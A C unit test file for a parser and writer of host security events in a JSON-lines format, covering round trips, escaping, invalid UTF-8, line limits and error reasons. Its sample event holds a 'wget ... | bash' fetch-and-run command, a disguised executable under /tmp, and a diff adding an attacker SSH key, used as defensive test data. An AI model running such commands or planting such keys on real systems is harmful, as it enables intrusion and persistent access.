/* test_hostjson.c - the host event JSON-lines format: every kind written
 * and read back field for field, escapes and invalid UTF-8, the line
 * bound, required members, located reasons for bad lines, unknown
 * members ignored, unknown kinds skipped, and format detection. */
#include <stdio.h>
#include <stdlib.h>

#include "core/buf.h"
#include "core/err.h"
#include "core/mem.h"
#include "core/mtime.h"
#include "mmtest.h"
#include "parse/format.h"
#include "parse/hostjson.h"

static char scratch_mem[1 << 17];

static int parse(const char *s, size_t n, struct mm_event *ev, struct mm_err *err)
{
	static char *keep;
	struct mm_arena a;
	mm_free(keep);
	keep = mm_malloc(n ? n : 1);
	memcpy(keep, s, n);
	mm_arena_init(&a, scratch_mem, sizeof(scratch_mem));
	mm_err_clear(err);
	return mm_hostjson_parse(keep, n, &a, ev, err);
}

static int parsez(const char *s, struct mm_event *ev, struct mm_err *err)
{
	return parse(s, strlen(s), ev, err);
}

/* An event with every member set, for kind w. */
static void full_event(struct mm_event *ev, enum mm_host_what w)
{
	struct mm_host *h = &ev->u.host;
	memset(ev, 0, sizeof(*ev));
	ev->kind = MM_EV_HOST;
	h->what = w;
	h->time_ms = 1796510934123LL;
	h->host = mm_str_c("web-1");
	h->instance_id = mm_str_c("i-0123456789abcdef0");
	h->program = mm_str_c("sshd");
	h->pid = 4242;
	h->user = mm_str_c("git");
	h->target_user = mm_str_c("root");
	h->method = mm_str_c("publickey");
	h->invalid_user = 1;
	h->has_remote = 1;
	mm_ip_parse("198.51.100.7", 12, &h->remote);
	h->rport = 3333;
	h->has_local = 1;
	mm_ip_parse("2001:db8::5", 11, &h->local);
	h->lport = 40122;
	h->proto = 6;
	h->state = mm_str_c("ESTABLISHED");
	h->command = mm_str_c("wget -q -O - \"http://x/gi.sh\" | bash\t# \\ \x01");
	h->exe = mm_str_c("/tmp/.gitlab/kthreaddw");
	h->name = mm_str_c("kthreaddw");
	h->sha256 = mm_str_c("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
	h->lineage = mm_str_c("1:systemd:/usr/lib/systemd/systemd");
	h->ppid = 1;
	h->exe_deleted = 1;
	h->cpu_permille = 812;
	h->start_ms = 1796500000000LL;
	h->path = mm_str_c("/home/git/.ssh/authorized_keys");
	h->change = mm_str_c("modified");
	h->old_sha256 = mm_str_c("aa");
	h->new_sha256 = mm_str_c("bb");
	h->diff = mm_str_c("@@ -1 +1,2 @@\n ssh-ed25519 AAAA a@b\n+ssh-rsa AAAAB3 evil@x \xc3\xa9\n");
	h->message = mm_str_c("vsftpd[9]: \"Bad HTTP verb.\"\t\xc3\xa9");
}

static int same(struct mm_str a, struct mm_str b) { return mm_str_eq(a, b); }

MM_TEST(round_trip_every_what)
{
	enum mm_host_what w;
	for (w = MM_HOST_LOGIN_FAIL; w <= MM_HOST_LINE; w++) {
		struct mm_event ev, back;
		struct mm_buf b;
		struct mm_err err;
		const struct mm_host *x = &ev.u.host, *y = &back.u.host;
		full_event(&ev, w);
		mm_buf_init(&b, 1u << 20);
		CHECK_EQ_INT(mm_hostjson_write(&b, &ev), 0);
		CHECK(b.len > 0 && b.p[b.len - 1] == '\n');
		CHECK(memchr(b.p, '\n', b.len - 1) == NULL);
		CHECK(mm_hostjson_looks_like(b.p, b.len - 1));
		CHECK_EQ_INT(parse(b.p, b.len - 1, &back, &err), 0);
		CHECK_EQ_INT(back.kind, MM_EV_HOST);
		CHECK_EQ_INT(y->what, w);
		CHECK(y->time_ms == x->time_ms && y->start_ms == x->start_ms);
		CHECK(same(x->host, y->host) && same(x->instance_id, y->instance_id));
		CHECK(same(x->program, y->program) && same(x->user, y->user));
		CHECK(same(x->target_user, y->target_user) && same(x->method, y->method));
		CHECK(y->invalid_user == 1 && y->exe_deleted == 1);
		CHECK(y->has_remote && mm_ip_eq(&x->remote, &y->remote) && y->rport == 3333);
		CHECK(y->has_local && mm_ip_eq(&x->local, &y->local) && y->lport == 40122);
		CHECK(y->proto == 6 && y->pid == 4242 && y->ppid == 1 && y->cpu_permille == 812);
		CHECK(same(x->state, y->state) && same(x->command, y->command));
		CHECK(same(x->exe, y->exe) && same(x->name, y->name));
		CHECK(same(x->sha256, y->sha256) && same(x->lineage, y->lineage));
		CHECK(same(x->path, y->path) && same(x->change, y->change));
		CHECK(same(x->old_sha256, y->old_sha256) && same(x->new_sha256, y->new_sha256));
		CHECK(same(x->diff, y->diff));
		CHECK(same(x->message, y->message));
		CHECK_EQ_INT((int)back.raw.n, (int)(b.len - 1));
		CHECK_EQ_STR(mm_host_what_name(w) ? "ok" : "none", "ok");
		CHECK_EQ_INT(mm_host_what_parse(mm_host_what_name(w), strlen(mm_host_what_name(w))), w);
		mm_buf_free(&b);
	}
}

MM_TEST(minimal_event_writes_only_required)
{
	struct mm_event ev;
	struct mm_buf b;
	memset(&ev, 0, sizeof(ev));
	ev.kind = MM_EV_HOST;
	ev.u.host.what = MM_HOST_SUDO;
	ev.u.host.time_ms = 1796510934123LL;
	ev.u.host.host = mm_str_c("h");
	mm_buf_init(&b, 4096);
	CHECK_EQ_INT(mm_hostjson_write(&b, &ev), 0);
	CHECK_EQ_STR(b.p, "{\"mamori_host_event\":1,\"time\":\"2026-12-05T22:48:54.123Z\","
			  "\"what\":\"sudo\",\"host\":\"h\"}\n");
	/* a negative pid is left out, not written for the parser to refuse */
	ev.u.host.pid = -5;
	mm_buf_reset(&b);
	CHECK_EQ_INT(mm_hostjson_write(&b, &ev), 0);
	CHECK(strstr(b.p, "pid") == NULL);
	ev.u.host.pid = 0;
	/* not a host event, or no kind: refused, buffer untouched */
	ev.u.host.what = MM_HOST_NONE;
	CHECK_EQ_INT(mm_hostjson_write(&b, &ev), MM_EINVAL);
	ev.kind = MM_EV_DNS;
	CHECK_EQ_INT(mm_hostjson_write(&b, &ev), MM_EINVAL);
	CHECK_EQ_INT((int)b.len, 83);
	mm_buf_free(&b);
}

MM_TEST(invalid_utf8_becomes_replacement)
{
	struct mm_event ev, back;
	struct mm_buf b;
	struct mm_err err;
	full_event(&ev, MM_HOST_PROC);
	ev.u.host.name = mm_str_c("a\xff" "b");
	mm_buf_init(&b, 1u << 20);
	CHECK_EQ_INT(mm_hostjson_write(&b, &ev), 0);
	CHECK_EQ_INT(parse(b.p, b.len - 1, &back, &err), 0);
	CHECK_EQ_SLICE(back.u.host.name, "a\xef\xbf\xbd" "b");
	mm_buf_free(&b);
}

MM_TEST(writer_bounds_the_line)
{
	struct mm_event ev, back;
	struct mm_buf b;
	struct mm_err err;
	size_t big = 200000, i;
	char *s = mm_malloc(big);
	for (i = 0; i < big; i++)
		s[i] = (i % 7) ? 'x' : '\x01'; /* control bytes escape to 6 */
	full_event(&ev, MM_HOST_FILE);
	ev.u.host.diff = mm_str_make(s, big);
	ev.u.host.command = mm_str_make(s, big);
	ev.u.host.exe = mm_str_make(s, big);
	ev.u.host.path = mm_str_make(s, big);
	ev.u.host.lineage = mm_str_make(s, big);
	ev.u.host.host = mm_str_make(s, big);
	ev.u.host.user = mm_str_make(s, big);
	/* every other string at its budget too: the sum still fits */
	ev.u.host.instance_id = ev.u.host.program = ev.u.host.target_user = mm_str_make(s, big);
	ev.u.host.method = ev.u.host.state = ev.u.host.sha256 = mm_str_make(s, big);
	ev.u.host.change = ev.u.host.old_sha256 = ev.u.host.new_sha256 = mm_str_make(s, big);
	ev.u.host.message = mm_str_make(s, big);
	ev.u.host.name = mm_str_c("a\xc3\xa9");
	mm_buf_init(&b, 1u << 20);
	CHECK_EQ_INT(mm_hostjson_write(&b, &ev), 0);
	CHECK(b.len <= MM_HOSTJSON_MAX_LINE);
	CHECK_EQ_INT(parse(b.p, b.len - 1, &back, &err), 0);
	CHECK(back.u.host.diff.n > 1000 && back.u.host.diff.n < big);
	CHECK(memcmp(back.u.host.diff.p, s, back.u.host.diff.n) == 0);
	CHECK(back.u.host.message.n > 500 && back.u.host.message.n < big);
	/* a buffer too small: MM_ETOOBIG, nothing left behind */
	mm_buf_free(&b);
	mm_buf_init(&b, 100);
	CHECK_EQ_INT(mm_hostjson_write(&b, &ev), MM_ETOOBIG);
	CHECK_EQ_INT((int)b.len, 0);
	mm_buf_free(&b);
	mm_free(s);
}

MM_TEST(parse_reference_line)
{
	struct mm_event ev;
	struct mm_err err;
	const char *l =
		"{\"mamori_host_event\": 1, \"time\":\"2026-12-05T22:48:54.123Z\",\"what\":\"sock\","
		"\"host\":\"web-1\",\"pid\":4242,\"remote\":\"198.51.100.7\",\"rport\":3333,"
		"\"proto\":6,\"state\":\"ESTABLISHED\",\"future\":{\"x\":[1,2,{}]},\"n\\u0061me\":\"k\\u00e9\"}";
	CHECK_EQ_INT(parsez(l, &ev, &err), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_SOCK);
	CHECK_EQ_SLICE(ev.u.host.host, "web-1");
	CHECK_EQ_SLICE(ev.u.host.name, "k\xc3\xa9");
	CHECK(ev.u.host.has_remote && !ev.u.host.has_local && ev.u.host.rport == 3333);
	CHECK(ev.u.host.time_ms == 1796510934123LL);
	CHECK(ev.raw.n == strlen(l));
}

MM_TEST(bad_lines_have_reasons)
{
	static const struct {
		const char *line, *reason;
		int rc;
	} cases[] = {
		{"", "not a JSON object", MM_EPARSE},
		{"[1]", "not a JSON object", MM_EPARSE},
		{"{\"time\":\"2026-12-05T22:48:54Z\",\"what\":\"sudo\",\"host\":\"h\"}",
		 "missing mamori_host_event", MM_EPARSE},
		{"{\"mamori_host_event\":2,\"time\":\"2026-12-05T22:48:54Z\",\"what\":\"sudo\",\"host\":\"h\"}",
		 "version 2", MM_EPARSE},
		{"{\"mamori_host_event\":1,\"what\":\"sudo\",\"host\":\"h\"}", "missing time", MM_EPARSE},
		{"{\"mamori_host_event\":1,\"time\":\"2026-12-05T22:48:54Z\",\"host\":\"h\"}",
		 "missing what", MM_EPARSE},
		{"{\"mamori_host_event\":1,\"time\":\"2026-12-05T22:48:54Z\",\"what\":\"sudo\"}",
		 "missing host", MM_EPARSE},
		{"{\"mamori_host_event\":1,\"time\":\"yesterday\",\"what\":\"sudo\",\"host\":\"h\"}",
		 "time is not ISO 8601", MM_EPARSE},
		{"{\"mamori_host_event\":1,\"time\":\"2026-12-05T22:48:54Z\",\"what\":\"sudo\",\"host\":\"h\",\"rport\":70000}",
		 "rport: not an integer", MM_EPARSE},
		{"{\"mamori_host_event\":1,\"time\":\"2026-12-05T22:48:54Z\",\"what\":\"sudo\",\"host\":\"h\",\"pid\":\"12\"}",
		 "pid: not an integer", MM_EPARSE},
		{"{\"mamori_host_event\":1,\"time\":\"2026-12-05T22:48:54Z\",\"what\":\"sudo\",\"host\":\"h\",\"remote\":\"nope\"}",
		 "remote: not an IP address", MM_EPARSE},
		{"{\"mamori_host_event\":1,\"time\":\"2026-12-05T22:48:54Z\",\"what\":\"sudo\",\"host\":\"h\",\"user\":[1]}",
		 "user: expected a string", MM_EPARSE},
		{"{\"mamori_host_event\":1,\"time\":\"2026-12-05T22:48:54Z\",\"what\":\"sudo\",\"host\":\"h\",\"exe_deleted\":1}",
		 "exe_deleted: expected true", MM_EPARSE},
		{"{\"mamori_host_event\":1,\"time\":\"2026-12-05T22:48:54Z\",\"what\":\"sudo\",\"host\":\"h\"} x",
		 "trailing bytes", MM_EPARSE},
		{"{\"mamori_host_event\":1,\"time\":\"2026-12-05T22:48:54Z\",\"what\":\"sudo\",\"host\":\"h\"",
		 "malformed JSON", MM_EPARSE},
		{"{\"mamori_host_event\":1,\"time\":\"2026-12-05T22:48:54Z\",\"what\":\"ebpf_exec\",\"host\":\"h\"}",
		 "unknown kind \"ebpf_exec\"", MM_ESKIP},
	};
	size_t i;
	for (i = 0; i < MM_ARRAY_LEN(cases); i++) {
		struct mm_event ev;
		struct mm_err err;
		int rc = parsez(cases[i].line, &ev, &err);
		CHECK_EQ_INT(rc, cases[i].rc);
		if (!strstr(err.msg, cases[i].reason))
			fprintf(stderr, "  case %zu: \"%s\" lacks \"%s\"\n", i, err.msg, cases[i].reason);
		CHECK(strstr(err.msg, cases[i].reason) != NULL);
	}
}

MM_TEST(too_long_line_refused)
{
	struct mm_event ev;
	struct mm_err err;
	size_t n = MM_HOSTJSON_MAX_LINE + 1;
	char *s = mm_malloc(n);
	memset(s, ' ', n);
	s[0] = '{';
	CHECK_EQ_INT(parse(s, n, &ev, &err), MM_EPARSE);
	CHECK(strstr(err.msg, "longer than") != NULL);
	mm_free(s);
}

MM_TEST(looks_like_and_format_detection)
{
	const char *l = "{\"mamori_host_event\":1,\"time\":\"2026-12-05T22:48:54Z\",\"what\":\"sudo\",\"host\":\"h\"}\n";
	CHECK(mm_hostjson_looks_like(l, strlen(l)));
	CHECK(!mm_hostjson_looks_like("{\"mamori_host_event\":12}", 24));
	CHECK(!mm_hostjson_looks_like("{\"mamori_host_event\":\"1\"}", 25));
	CHECK(!mm_hostjson_looks_like("mamori_host_event:1", 19));
	CHECK(mm_hostjson_looks_like("{\"mamori_host_event\" : 1}", 25));
	CHECK_EQ_INT(mm_format_detect("x.log", l, strlen(l), MM_SRC_AUTO), MM_FMT_HOSTJSON);
	/* by name, even when the first line does not say it first */
	CHECK_EQ_INT(mm_format_detect("a/b.hostevents.jsonl", "{\"x\":1}\n", 8, MM_SRC_AUTO),
		     MM_FMT_HOSTJSON);
	CHECK_EQ_INT(mm_format_detect("a/b.hostevents.jsonl.gz", "{\"x\":1}\n", 8, MM_SRC_AUTO),
		     MM_FMT_HOSTJSON);
	CHECK_EQ_INT(mm_format_detect("a/b.jsonl", "{\"x\":1}\n", 8, MM_SRC_AUTO), MM_FMT_UNKNOWN);
	/* a DNS record is still a DNS record */
	{
		const char *d = "{\"version\":\"1.100000\",\"query_timestamp\":\"2026-12-05T22:48:54Z\","
				"\"query_name\":\"a.example.\"}\n";
		CHECK_EQ_INT(mm_format_detect("x.log", d, strlen(d), MM_SRC_AUTO), MM_FMT_DNS);
	}
	CHECK_EQ_STR(mm_format_name(MM_FMT_HOSTJSON), "host events (JSON lines)");
}

